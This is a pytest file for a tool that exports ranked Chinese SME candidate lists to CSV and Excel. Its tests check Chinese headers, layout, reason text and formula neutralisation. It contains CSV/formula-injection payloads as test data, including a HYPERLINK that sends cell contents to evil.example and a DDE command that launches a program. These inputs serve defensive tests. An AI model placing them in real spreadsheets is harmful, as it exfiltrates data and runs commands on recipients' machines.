"""List files: a workbook an official can forward as it is, CSV in the contract's columns.

The workbook speaks Chinese first (headers with English beside, names beside codes,
threshold words, reasons one per line), is laid out for reading (widths, frozen
header, autofilter, percentages), and says on 概况 what the list covers. Neither
file ever holds a formula; CSV starts with a UTF-8 byte-order mark.
"""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from pathlib import Path
from statistics import median

import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from discovery.listfile import ABOUT_SHEET, COLUMNS_SHEET, LIST_SHEET, write_list
from discovery.listtext import ALL_REGIONS, NOT_ON_FILE, check_zh, reasons_zh, scope_text
from discovery.names import labelled, region_name
from discovery.ranking import BASE_COLUMNS, MENTIONS, RankedList, not_on_file, rank
from discovery.scope import OUTSIDE_LABEL
from graph.embedded import EmbeddedStore
from graph.errors import UsageError
from graph.loading import ingest
from tests.discovery.conftest import AS_OF, TrainedWorld

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
BOM = b"\xef\xbb\xbf"


def hostile_list() -> RankedList:
    n = len(HOSTILE)
    frame = pd.DataFrame(
        {
            "rank": range(1, n + 1),
            "uscc": [f"91440305MA5F0000{i:02d}" for i in range(n)],
            "name": HOSTILE,
            "region_code": ["440305"] * n,
            "industry_code": ["C3976"] * n,
            "tier": "specialized_sme",
            "score": [0.9 - 0.1 * i for i in range(n)],
            "reasons": [f"{h}；深圳市测试科技有限公司" for h in reversed(HOSTILE)],
            MENTIONS: [(("91440305MA5F000099", "某公司"),)] * n,
        }
    )
    return RankedList("specialized_sme", date(2025, 12, 31), "m-1", frame, [], {"note": "=1+2"})


def header(sheet: Worksheet) -> list[str]:
    return [str(c.value) for c in sheet[1]]


def about(book: openpyxl.Workbook) -> dict[str, object]:
    return {r[0]: r[2] for r in book[ABOUT_SHEET].iter_rows(min_row=2, values_only=True)}


def no_formulas(book: openpyxl.Workbook) -> bool:
    kinds = {c.data_type for s in book.worksheets for row in s.iter_rows() for c in row}
    return "f" not in kinds


def test_csv_has_a_bom_neutralised_text_and_no_internal_column(tmp_path: Path) -> None:
    path = write_list(hostile_list(), tmp_path / "list.csv")
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    assert raw.count(b"\r\n") == len(HOSTILE) + 1  # one per row; the cell's CR is quoted
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert MENTIONS not in back.columns
    assert list(back.columns[:9]) == [*BASE_COLUMNS, "region_name", "industry_name"]
    assert back["region_name"].tolist() == ["广东省深圳市南山区"] * len(HOSTILE)
    assert back["name"].tolist() == [f"'{h}" for h in HOSTILE]
    assert back["reasons"].tolist() == [f"'{h}；深圳市测试科技有限公司" for h in reversed(HOSTILE)]
    for column in back.columns:
        assert not back[column].str.match(r"[=+\-@\t\r]").any(), column
    assert back["score"].astype(float).tolist() == pytest.approx([0.9 - 0.1 * i for i in range(6)])


def test_xlsx_stores_text_never_formulas(tmp_path: Path) -> None:
    path = write_list(hostile_list(), tmp_path / "list.xlsx")
    book = openpyxl.load_workbook(path)
    assert no_formulas(book)
    sheet = book[LIST_SHEET]
    head = header(sheet)
    assert MENTIONS not in head and "reasons" not in head
    names = [
        row[head.index("企业名称 Name")] for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    # XML keeps no bare carriage return: it reads back as a line feed
    assert names == [f"'{h}".replace("\r", "\n") for h in HOSTILE]
    reasons = [row[-1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert reasons == [f"'{h.strip()}\n深圳市测试科技有限公司" for h in reversed(HOSTILE)]
    assert about(book)["note"] == "'=1+2"
    assert sheet.cell(row=2, column=head.index("预计通过概率 Score") + 1).data_type == "n"


def test_an_unknown_suffix_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"\.csv or \.xlsx"):
        write_list(hostile_list(), tmp_path / "new" / "list.txt")
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("达标 met", "达标"),
        ("未达标 not met", "未达标"),
        ("未知 unknown", "未知"),
        ("未知 unknown (估计 est. 47，达标把握 chance 62%)", "未知（估计47分，达标把握62%）"),
        ("未知 unknown (估计 est. 47)", "未知（估计47分）"),
        ("未知 unknown (达标把握 chance 38%)", "未知（达标把握38%）"),
        (None, ""),
    ],
)
def test_checks_read_as_chinese_words(text: object, expected: str) -> None:
    assert check_zh(text) == expected


def test_reasons_read_in_chinese_one_per_line_each_company_once() -> None:
    masked = (
        f'供应3家专精特新"小巨人"企业：{OUTSIDE_LABEL}、无锡某公司、{OUTSIDE_LABEL} '
        f"(supplies 3 little giant(s): {OUTSIDE_LABEL}、无锡某公司、{OUTSIDE_LABEL})"
    )
    text = "；".join(
        [
            "2024年营业收入4,976万元，同比增长6% (revenue 4,976 wan yuan in 2024, +6% on the year)",
            masked,
            "在供应链网络中位置重要（PageRank 0.52） (central in the supply network)",
            "2024年营业收入4,976万元，同比增长6% (revenue 4,976 wan yuan in 2024, +6% on the year)",
        ]
    )
    assert reasons_zh(text).split("\n") == [
        "2024年营业收入4,976万元，同比增长6%",
        '供应3家专精特新"小巨人"企业：2家区外企业、无锡某公司',
        "在供应链网络中位置重要（PageRank 0.52）",
    ]
    assert reasons_zh("没有英文的理由") == "没有英文的理由"
    assert reasons_zh(float("nan")) == ""


def test_the_scope_is_said_in_words_never_none() -> None:
    assert scope_text(None) == scope_text(None, None) == ALL_REGIONS
    assert scope_text("32") == labelled(region_name("32"), "32") == "江苏省（32）"
    # an official's regions, narrowed by the filter when it is narrower
    assert scope_text(None, ("3202", "3205")) == "、".join(
        labelled(region_name(p), p) for p in ("3202", "3205")
    )
    assert scope_text("32", ("3202",)) == labelled(region_name("3202"), "3202")
    assert scope_text("320214", ("3202",)) == "江苏省无锡市新吴区（320214）"
    assert "outside your regions" in scope_text("44", ("3202",))


@pytest.fixture(scope="module")
def listed(trained_world: TrainedWorld) -> dict[str, RankedList]:
    """The specialized-SME list of the whole country and of its busiest province."""
    w = trained_world

    def ranked(region: str | None) -> RankedList:
        return rank(
            w.store,
            "specialized_sme",
            AS_OF,
            w.registry,
            w.criteria,
            top=200,
            region=region,
            features=w.snapshots(AS_OF),
        )

    everywhere = ranked(None)
    province = str(everywhere.frame["region_code"].str.slice(0, 2).value_counts().index[0])
    return {"": everywhere, province: ranked(province)}


def test_the_workbook_can_be_forwarded_as_it_is(
    listed: dict[str, RankedList], tmp_path: Path
) -> None:
    for region, ranked in listed.items():
        path = write_list(ranked, tmp_path / f"list-{region or 'all'}.xlsx")
        book = openpyxl.load_workbook(path)
        assert book.sheetnames == [LIST_SHEET, COLUMNS_SHEET, ABOUT_SHEET]
        assert no_formulas(book)
        sheet = book[LIST_SHEET]
        head = header(sheet)
        # Chinese headers with English beside, no snake_case key among them
        assert head[:4] == ["名次 Rank", "企业名称 Name", "统一社会信用代码 USCC", "地区 Region"]
        assert all(re.match(r"[\u4e00-\u9fff]", h) for h in head), head
        assert not any(re.search(r"[a-z]+_[a-z]+", h) for h in head), head
        assert "上年度营业收入门槛 Threshold: revenue, latest year" in head
        # frozen header row (and the name column), an autofilter over the whole table
        assert sheet.freeze_panes == "C2"
        assert (
            sheet.auto_filter.ref
            == f"A1:{sheet.cell(1, len(head)).column_letter}{len(ranked.frame) + 1}"
        )
        # widths set to content, bounded; reasons wide and wrapped
        width = {
            h: sheet.column_dimensions[sheet.cell(1, j).column_letter].width
            for j, h in enumerate(head, 1)
        }
        assert all(8 <= w <= 60 for w in width.values()), width
        assert width["统一社会信用代码 USCC"] >= 18 and width["名次 Rank"] <= 10
        assert width["推荐理由 Reasons"] == 60
        reasons = sheet.cell(2, head.index("推荐理由 Reasons") + 1)
        assert reasons.alignment.wrap_text
        # scores as percentages; names beside codes; checks as words
        score = sheet.cell(2, head.index("预计通过概率 Score") + 1)
        assert score.number_format == "0%" and score.value == ranked.frame["score"].iloc[0]
        rows = pd.DataFrame(list(sheet.iter_rows(min_row=2, values_only=True)), columns=head)
        assert (rows["地区 Region"] == [region_name(c) for c in ranked.frame["region_code"]]).all()
        assert (
            rows["地区 Region"].str.len().gt(0).all()
            and rows["行业 Industry"].str.len().gt(0).all()
        )
        assert set(rows["企业规模 Size"]) <= {"微型", "小型", "中型", "未知"}
        checks = rows[[h for h in head if "门槛 Threshold" in h]]
        assert (
            checks.stack()
            .str.match(r"^(达标|未达标|未知)(（(估计\d+分(，达标把握\d+%)?|达标把握\d+%)）)?$")
            .all()
        )
        # reasons: Chinese, one per line, no English sentence left
        lines = rows["推荐理由 Reasons"].str.split("\n")
        assert lines.map(len).ge(1).all()
        assert not rows["推荐理由 Reasons"].str.contains(r"\(supplies|\(revenue|wan yuan").any()
        assert median(rows["推荐理由 Reasons"].str.len()) < 0.6 * median(
            ranked.frame["reasons"].str.len()
        )
        # the keys of the CSV stay available on the columns sheet
        keys = [r[1] for r in book[COLUMNS_SHEET].iter_rows(min_row=2, values_only=True)]
        assert keys[:7] == [
            "rank",
            "name",
            "uscc",
            "region_name",
            "region_code",
            "industry_name",
            "industry_code",
        ]
        assert "reasons" in keys and "score" in keys
        # 概况: the real scope, dates as dates, counts as readable rows
        info = about(book)
        scope = info["地区范围"]
        assert scope == (labelled(region_name(region), region) if region else ALL_REGIONS)
        assert info["名单日期"].date() == AS_OF
        assert info["认定标准版本"] == ranked.criteria_version != ""
        assert info["模型"] == ranked.model_id
        assert ranked.model_as_of is not None
        assert info["模型训练数据截至"].date() == ranked.model_as_of
        assert info["层级"] == "专精特新中小企业 specialized_sme"
        assert info["资格筛查排除：大型企业"] == ranked.summary["gated_out"]["large"]
        assert info["列入名单"] == len(ranked.frame)
        text = " ".join(str(v) for v in info.values()) + " ".join(info)
        assert "None" not in text and "{" not in text


def test_the_csv_keeps_the_contract_columns_and_adds_names(
    listed: dict[str, RankedList], tmp_path: Path
) -> None:
    ranked = listed[""]
    path = write_list(ranked, tmp_path / "list.csv")
    assert path.read_bytes().startswith(BOM)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns[:10]) == [*BASE_COLUMNS, "region_name", "industry_name", "size_class"]
    assert back["uscc"].tolist() == ranked.frame["uscc"].tolist()
    assert back["industry_name"].str.len().gt(0).all()
    # the checks as the list holds them (both languages), not the workbook's words
    assert back["check_ss_revenue"].tolist() == ranked.frame["check_ss_revenue"].tolist()


def test_tables_not_on_file_are_named_on_the_list_and_by_rank(
    listed: dict[str, RankedList], tmp_path: Path, tiny_dir: Path
) -> None:
    """A province that has not connected its patent or compliance records gets a list
    that says so: a threshold on them reads unknown and their gate bars no one."""
    ranked = listed[""]
    assert ranked.summary["not_on_file"] == []  # a simulated world holds every table
    assert NOT_ON_FILE[0] not in about(
        openpyxl.load_workbook(write_list(ranked, tmp_path / "a.xlsx"))
    )
    thin = replace(
        ranked, summary={**ranked.summary, "not_on_file": ["patents", "compliance_events"]}
    )
    info = about(openpyxl.load_workbook(write_list(thin, tmp_path / "b.xlsx")))
    assert info[NOT_ON_FILE[0]] == "知识产权 patents、合规事件 compliance_events"
    # what the store holds decides it: the tiny world without its patents file
    (tiny_dir / "patents.csv").unlink()
    store = EmbeddedStore(tmp_path / "store")
    ingest(tiny_dir, store, tmp_path / "rejects.csv")
    assert not_on_file(store) == ["patents"]
